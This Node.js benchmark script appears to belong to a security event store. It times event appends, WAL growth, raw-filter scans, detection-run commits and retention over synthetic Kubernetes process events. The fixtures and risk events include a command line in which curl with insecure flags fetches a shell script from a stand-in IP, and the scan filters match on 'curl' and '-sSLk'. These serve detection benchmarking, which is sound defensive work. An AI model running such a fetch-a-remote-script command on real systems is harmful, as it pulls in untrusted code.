#!/usr/bin/env node
// Event store benchmark: append throughput (batches of 100 realistic ~1.5 KB Tetragon events, many appends
// in flight like concurrent HEC requests; the WAL's largest size and restarts meanwhile), then the scan rate
// of a one-hour window holding 1M events of one sourcetype, with and without the raw-filter pushdown, then
// the cost of a scheduler run commit (ledger row + risk events + finding + outbox item, one transaction),
// idle and during ingest. Uses the built store: run `npm run build` first.
//
//   node bench/store.mjs [--events 1000000] [--noise 200000] [--in-flight 32] [--batch 100] [--rate 25000] [--runs 200] [--risk 50] [--dir DIR] [--keep]
// --rate: after the throughput run, offer this many events/s (open loop) for 10 s and report append latency.
// --runs/--risk: run commits to time, and risk events per run.
// --dir DIR is kept; with a store already in it, the append phase is skipped (scan only).
import { closeSync, existsSync, mkdtempSync, openSync, readSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { monitorEventLoopDelay, performance } from 'node:perf_hooks';
import { processExec, processExit, rng } from '../scripts/tetragon-factory.mjs';

let store;
try {
  store = await import('../dist/bundle/store.sqlite-store.js');
} catch (err) {
  console.error(`cannot load dist/bundle/store.sqlite-store.js (${err.message}): run \`npm run build\` first`);
  process.exit(1);
}
const { compileRawFilter } = await import('../dist/bundle/events.scan.js');

const args = process.argv.slice(2);
const opt = (name, dflt) => {
  const i = args.indexOf(`--${name}`);
  return i >= 0 ? args[i + 1] : dflt;
};
const EVENTS = Number(opt('events', 1_000_000));
const NOISE = Number(opt('noise', 200_000));
const IN_FLIGHT = Number(opt('in-flight', 32));
const BATCH = Number(opt('batch', 100));
const KEEP = args.includes('--keep');
const RATE = Number(opt('rate', 25_000));
const RUNS = Number(opt('runs', 200));
const RISK = Number(opt('risk', 50));
const given = opt('dir', null);
const dir = given ?? mkdtempSync(join(tmpdir(), 'vigil-bench-store-'));

const EXEC = 'cisco:isovalent:processExec';
const OTHER = 'cisco:isovalent';
const H0 = Date.UTC(2026, 10, 20, 10, 0, 0) / 1000; // the hour the events fall in

// A pool of distinct realistic events; appended events cycle through it with their own times.
const r = rng(1);
const BINARIES = ['/usr/bin/python3', '/bin/bash', '/usr/sbin/nginx', '/usr/bin/cat', '/usr/bin/ls', '/usr/bin/wget', '/usr/bin/git'];
const pick = (xs) => xs[Math.floor(r() * xs.length)];
function podFor(i) {
  const name = `svc${i % 40}-${(i * 7919).toString(36).padStart(5, 'x').slice(0, 5)}`;
  return {
    name,
    namespace: `ns${i % 7}`,
    image: `acme/svc${i % 40}:1.${i % 9}`,
    containerId: (i * 2654435761).toString(16).padStart(16, '0').repeat(4).slice(0, 64),
    containerName: `svc${i % 40}`,
    containerStart: '2026-11-19T09:00:41Z',
    workload: `svc${i % 40}`,
    workloadKind: 'Deployment',
  };
}
function makePool(n, kind) {
  const out = [];
  for (let i = 0; i < n; i++) {
    const time = H0 + i;
    const binary = r() < 0.02 ? '/usr/bin/curl' : pick(BINARIES);
    const argsText = binary.endsWith('curl') && r() < 0.5 ? `-sSLk https://198.51.100.${i % 250}/p.sh` : `-v ${Math.floor(r() * 1e6)}`;
    const pod = i % 4 === 3 ? undefined : podFor(i); // a quarter are host processes (no pod)
    const e = {
      time,
      node: `node-${i % 8}`,
      cluster: 'prod-eu-1',
      process: { binary, args: argsText, pid: 40000 + i, uid: 1000, cwd: '/srv/app', start: time - 0.000211, pod },
      parent: { binary: '/bin/sh', args: '-c run.sh', pid: 39990 + i, start: time - 12.5, pod, cwd: '/' },
    };
    out.push(JSON.stringify(kind === 'exec' ? processExec(e) : processExit(e)));
  }
  return out;
}
const execPool = makePool(4096, 'exec');
const otherPool = makePool(1024, 'exit');
const avgRaw = execPool.reduce((n, s) => n + s.length, 0) / execPool.length;

const TOTAL = EVENTS + NOISE;
const everyOther = NOISE > 0 ? Math.max(1, Math.round(TOTAL / NOISE)) : 0;
function eventAt(k) {
  const noise = everyOther > 0 && k % everyOther === everyOther - 1 && Math.floor(k / everyOther) < NOISE;
  return {
    _time: H0 + Math.floor((k * 3600e6) / TOTAL) / 1e6,
    index: 'main',
    sourcetype: noise ? OTHER : EXEC,
    source: 'http:hec',
    host: `node-${k % 8}`,
    _raw: noise ? otherPool[k % otherPool.length] : execPool[k % execPool.length],
  };
}

const mib = (b) => (b / 1024 / 1024).toFixed(0);
const rate = (n, ms) => Math.round(n / (ms / 1000)).toLocaleString('en-US');
const pct = (xs, p) => xs[Math.min(xs.length - 1, Math.floor((xs.length * p) / 100))];

console.log(`store bench: ${dir}`);
console.log(`events: ${EVENTS.toLocaleString('en-US')} ${EXEC} + ${NOISE.toLocaleString('en-US')} ${OTHER} in one hour, avg _raw ${avgRaw.toFixed(0)} chars`);

/**
 * Watches the WAL while appends run: its largest size, and how often the checkpoint worker got it started
 * over (the header's checkpoint sequence number, which SQLite increments at each restart).
 */
function watchWal() {
  const wal = join(dir, 'vigil.db-wal');
  const header = Buffer.alloc(16);
  const seq = () => {
    if (!existsSync(wal)) return 0;
    const fd = openSync(wal, 'r');
    try {
      return readSync(fd, header, 0, 16, 0) === 16 ? header.readUInt32BE(12) : 0;
    } finally {
      closeSync(fd);
    }
  };
  const first = seq();
  let maxBytes = 0;
  const sample = () => (maxBytes = Math.max(maxBytes, existsSync(wal) ? statSync(wal).size : 0));
  const timer = setInterval(sample, 20);
  return {
    report() {
      clearInterval(timer);
      sample();
      return `WAL at most ${mib(maxBytes)} MiB, started over ${seq() - first} times`;
    },
  };
}

// --- append ---------------------------------------------------------------------------------------
async function appendPhase(s) {
  const loop = monitorEventLoopDelay({ resolution: 5 });
  loop.enable();
  const wal = watchWal();
  const latencies = [];
  let nextK = 0;
  const t0 = performance.now();
  async function client() {
    while (nextK < TOTAL) {
      const k0 = nextK;
      nextK = Math.min(TOTAL, nextK + BATCH);
      const batch = [];
      for (let k = k0; k < nextK; k++) batch.push(eventAt(k));
      const started = performance.now();
      await s.append(batch); // the queue bound exceeds what is in flight: never STORE_BUSY here
      latencies.push(performance.now() - started);
    }
  }
  await Promise.all(Array.from({ length: IN_FLIGHT }, client));
  const appendMs = performance.now() - t0;
  loop.disable();
  latencies.sort((a, b) => a - b);
  const st = s.stats();
  console.log(`\nappend: ${rate(TOTAL, appendMs)} events/s (${(appendMs / 1000).toFixed(1)} s, ${IN_FLIGHT} appends of ${BATCH} in flight)`);
  console.log(`  append latency p50 ${pct(latencies, 50).toFixed(1)} ms, p99 ${pct(latencies, 99).toFixed(1)} ms, max ${latencies.at(-1).toFixed(1)} ms`);
  console.log(`  ${st.commits.toLocaleString('en-US')} commits for ${st.committedBatches.toLocaleString('en-US')} batches (${(st.committedBatches / st.commits).toFixed(1)} per commit)`);
  console.log(`  main-thread event loop delay p99 ${(loop.percentile(99) / 1e6).toFixed(1)} ms, max ${(loop.max / 1e6).toFixed(1)} ms (includes building the events)`);
  const dbBytes = statSync(join(dir, 'vigil.db')).size;
  console.log(`  database ${mib(dbBytes)} MiB (${(dbBytes / TOTAL).toFixed(0)} bytes/event); ${wal.report()}`);
}

/** Open loop: a batch every BATCH/RATE seconds whatever the store does, like independent HEC clients. */
async function latencyPhase(s, seconds = 10, t0Offset = 7200) {
  const n = Math.floor((RATE * seconds) / BATCH);
  const loop = monitorEventLoopDelay({ resolution: 5 });
  loop.enable();
  const wal = watchWal();
  const latencies = [];
  const pending = [];
  let busy = 0;
  const t0 = performance.now();
  for (let i = 0; i < n; i++) {
    const due = t0 + (i * BATCH * 1000) / RATE;
    const wait = due - performance.now();
    if (wait > 1) await new Promise((res) => setTimeout(res, wait));
    const batch = [];
    for (let k = 0; k < BATCH; k++) batch.push({ ...eventAt((i * BATCH + k) % TOTAL), _time: H0 + t0Offset + (i * BATCH + k) / RATE });
    const started = performance.now();
    pending.push(
      s.append(batch).then(
        () => latencies.push(performance.now() - started),
        (err) => {
          if (err.reason !== 'STORE_BUSY') throw err;
          busy++;
        },
      ),
    );
  }
  await Promise.all(pending);
  loop.disable();
  latencies.sort((a, b) => a - b);
  const ms = performance.now() - t0;
  console.log(`\nappend at an offered ${RATE.toLocaleString('en-US')} events/s for ${seconds} s: ${rate(latencies.length * BATCH, ms)} events/s stored, busy ${busy}`);
  console.log(`  append latency p50 ${pct(latencies, 50).toFixed(1)} ms, p99 ${pct(latencies, 99).toFixed(1)} ms, max ${latencies.at(-1).toFixed(1)} ms; event loop delay p99 ${(loop.percentile(99) / 1e6).toFixed(1)} ms`);
  console.log(`  ${wal.report()}`);
}

const reuse = existsSync(join(dir, 'vigil.db'));
const s = await store.openStore(dir, { maxPendingEvents: Math.max(100_000, IN_FLIGHT * BATCH * 2) });
if (reuse) console.log('(reusing the store in --dir: append phase skipped)');
else {
  await appendPhase(s);
  if (RATE > 0) await latencyPhase(s);
}

// --- scan -----------------------------------------------------------------------------------------
const window = { earliest: H0, latest: H0 + 3600, metadata: [{ field: 'sourcetype', patterns: [EXEC] }], defaultIndexes: ['main'] };
const curl = { kind: 'contains', text: 'curl' };
const curlK = { kind: 'and', items: [{ kind: 'contains', text: 'curl' }, { kind: 'contains', text: '-sSLk' }] };

async function timeScan(label, request, jsFilter = null) {
  const test = compileRawFilter(jsFilter);
  let n = 0;
  let rows = 0;
  const t = performance.now();
  for await (const batch of s.scan(request)) {
    rows += batch.length;
    if (test) {
      for (const e of batch) if (test(e._raw)) n++;
    } else n += batch.length;
  }
  const ms = performance.now() - t;
  console.log(`  ${label.padEnd(46)} ${(ms / 1000).toFixed(2).padStart(6)} s  ${rate(EVENTS, ms).padStart(11)} events/s in window  (${rows.toLocaleString('en-US')} rows read, ${n.toLocaleString('en-US')} match)`);
  return ms;
}

console.log(`\nscan: one-hour window, sourcetype=${EXEC} (${EVENTS.toLocaleString('en-US')} events)`);
await timeScan('window + sourcetype (every event to JS)', { ...window, raw: null });
await timeScan('raw "curl" filtered in JS', { ...window, raw: null }, curl);
await timeScan('raw "curl" pushed down (LIKE)', { ...window, raw: curl });
await timeScan('raw "curl" AND "-sSLk" filtered in JS', { ...window, raw: null }, curlK);
await timeScan('raw "curl" AND "-sSLk" pushed down', { ...window, raw: curlK });
const all = { kind: 'contains', text: 'exec_id' };
await timeScan('raw "exec_id" (every event) filtered in JS', { ...window, raw: null }, all);
await timeScan('raw "exec_id" (every event) pushed down', { ...window, raw: all });
await timeScan('no sourcetype: all events of the hour', { earliest: H0, latest: H0 + 3600, metadata: [], raw: null, defaultIndexes: ['main'] });

// --- run commits ----------------------------------------------------------------------------------
/** A realistic scheduled run of the seed detection: RISK risk events (~1 KB each), one finding, one outbox item. */
function runCommit(k) {
  const scheduledTime = H0 + 86400 + k * 3600;
  const runId = `bench-detection@${scheduledTime}`;
  const events = [];
  for (let i = 0; i < RISK; i++) {
    const pod = podFor(i);
    events.push({
      _time: scheduledTime - 600 - i,
      index: 'risk',
      sourcetype: 'stash',
      source: 'Cisco Isovalent - Curl Execution With Insecure Flags - Rule',
      host: 'vigil',
      _raw: JSON.stringify({
        run_id: runId,
        risk_event_id: `${k}-${i}`,
        risk_object: pod.name,
        risk_object_type: 'other',
        risk_score: 45,
        risk_message: `Curl with insecure flags executed in pod ${pod.name} on node-${i % 8}`,
        search_name: 'Cisco Isovalent - Curl Execution With Insecure Flags - Rule',
        annotations: { mitre_attack: ['T1105'] },
        analyticstories: ['Cisco Isovalent Suspicious Activity'],
        process: '/usr/bin/curl -sSLk https://198.51.100.7/p.sh',
        pod_name: pod.name,
        k8s_namespace: pod.namespace,
        threat_object: ['/usr/bin/curl'],
        threat_object_type: ['process'],
      }),
    });
  }
  return {
    run: {
      detectionId: 'bench-detection',
      detectionName: 'Cisco Isovalent - Curl Execution With Insecure Flags',
      scheduledTime,
      earliest: scheduledTime - 4200,
      latest: scheduledTime - 600,
      startedAt: scheduledTime,
      endedAt: scheduledTime + 1,
      status: 'success',
      mode: 'scheduled',
      resultCount: RISK,
      riskEventCount: RISK,
      findingCount: 1,
      error: null,
    },
    events,
    findings: [{ id: `f-${k}`, ruleId: 'rule', ruleName: 'Risk Threshold Exceeded', time: scheduledTime, riskObject: 'pod', riskObjectType: 'other', riskScore: 120, detail: '{}', status: 'new', owner: null, updatedAt: scheduledTime }],
    outbox: [{ id: `o-${k}`, action: 'webhook', payload: JSON.stringify({ run_id: runId }), createdAt: scheduledTime, nextAttemptAt: scheduledTime }],
    suppressions: [{ key: `bench:${k % 10}`, until: scheduledTime + 3600 }],
  };
}

/** Sequential run commits (the scheduler commits one run at a time), timed one by one. */
async function runPhase(label, first) {
  const latencies = [];
  const t0 = performance.now();
  for (let k = first; k < first + RUNS; k++) {
    const t = performance.now();
    await s.commitRun(runCommit(k));
    latencies.push(performance.now() - t);
  }
  const ms = performance.now() - t0;
  latencies.sort((a, b) => a - b);
  console.log(
    `  ${label.padEnd(30)} p50 ${pct(latencies, 50).toFixed(1)} ms, p99 ${pct(latencies, 99).toFixed(1)} ms, max ${latencies.at(-1).toFixed(1)} ms (${RUNS} runs in ${(ms / 1000).toFixed(1)} s)`,
  );
}

if (RUNS > 0 && !reuse) {
  console.log(`
run commits: ledger row + ${RISK} risk events (~${Math.round(JSON.stringify(runCommit(0).events[0]).length / 100) * 100} B) + finding + outbox item, one transaction`);
  await runPhase('idle', 0);
  if (RATE > 0) {
    const ingest = latencyPhase(s, 8, 4 * 3600);
    await new Promise((res) => setTimeout(res, 500));
    await runPhase(`during ingest (${RATE.toLocaleString('en-US')} ev/s)`, RUNS);
    await ingest;
  }
}

if (!KEEP && given === null) {
  const before = (await s.indexes()).find((i) => i.name === 'main');
  const t = performance.now();
  const report = await s.applyRetention(H0 + 10 * 86400 + 3 * 3600);
  s.setRetention({ main: { maxAgeSeconds: 86400 } });
  const t2 = performance.now();
  const report2 = await s.applyRetention(H0 + 10 * 86400);
  const ms = performance.now() - t2;
  console.log(`\nretention: no policy ${(t2 - t).toFixed(0)} ms (${report.deleted.length}); maxAge dropped ${report2.deleted[0]?.events.toLocaleString('en-US')} of ${before.events.toLocaleString('en-US')} events in ${ms.toFixed(0)} ms`);
}
await s.close();
console.log(`\npeak RSS ${mib(process.resourceUsage().maxRSS * 1024)} MiB`);
if (!KEEP && given === null) rmSync(dir, { recursive: true, force: true });
